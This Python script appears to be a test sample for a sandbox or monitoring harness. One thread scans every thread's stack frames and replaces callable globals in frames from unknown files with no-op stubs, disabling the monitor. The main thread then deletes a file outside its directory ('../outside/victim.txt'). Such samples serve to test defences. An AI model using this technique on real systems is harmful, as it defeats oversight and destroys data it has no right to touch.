# A thread watches the frames of all others, and tampers with those it does not know.
# damage: deleted
import os
import sys
import threading
import time

end = time.monotonic() + 1


def watch():
    while time.monotonic() < end:
        for frame in sys._current_frames().values():
            while frame:
                name = frame.f_code.co_filename
                if frame.f_globals is not globals() and not os.path.exists(name):
                    for key, value in list(frame.f_globals.items()):
                        if callable(value):
                            frame.f_globals[key] = lambda *arguments, **options: None
                frame = frame.f_back


sys.setswitchinterval(1e-6)
thread = threading.Thread(target=watch)
thread.start()
while thread.is_alive():
    open("made.txt", "w").close()
os.unlink("../outside/victim.txt")
